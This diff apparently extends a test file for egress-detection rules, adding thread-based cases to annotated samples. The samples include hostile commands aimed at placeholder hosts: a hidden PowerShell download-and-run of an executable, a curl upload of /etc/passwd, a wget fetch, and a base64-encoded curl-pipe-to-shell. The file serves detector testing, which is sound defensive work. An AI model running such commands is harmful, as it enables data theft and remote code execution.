@@ -29,6 +29,8 @@ subprocess.run("ls -la curl_results", shell=True)
 import asyncio
 import pty
 import shlex
+import threading
+from concurrent.futures import ThreadPoolExecutor
 # ok: covert.process-egress
 os.system("echo curl https://203.0.113.5/x")
 # ok: covert.process-egress
@@ -147,6 +149,12 @@ subprocess.run(["docker", "login", "-u", "ci", "--password-stdin", "registry.exa
 os.system("powershell -window hidden -executionpolicy bypass (New-Object System.Net.WebClient).DownloadFile('http://drop.example.net/a.exe',$env:TEMP+'\\a.exe'); Start-Process $env:TEMP'\\a.exe'")
 # ruleid: covert.process-egress host=ftp.example.org
 subprocess.run(["/usr/bin/env", "busybox", "ftp", "ftp.example.org"])
+# ruleid: covert.process-egress host=thread.example.net
+threading.Thread(target=os.system, args=("curl -d @/etc/passwd https://thread.example.net",)).start()
+# ok: covert.process-egress
+threading.Thread(target=subprocess.run, args=(["echo", "curl", "x.example.net"],)).start()
+# ruleid: covert.process-egress host=pool.example.net
+ThreadPoolExecutor().submit(os.execvp, "wget", ["wget", "http://pool.example.net/x"])
 # ruleid: covert.obfuscated-destination host=b64.example.net
 os.system(base64.b64decode("Y3VybCAtcyBodHRwczovL2I2NC5leGFtcGxlLm5ldC94IHwgc2g=").decode())
 
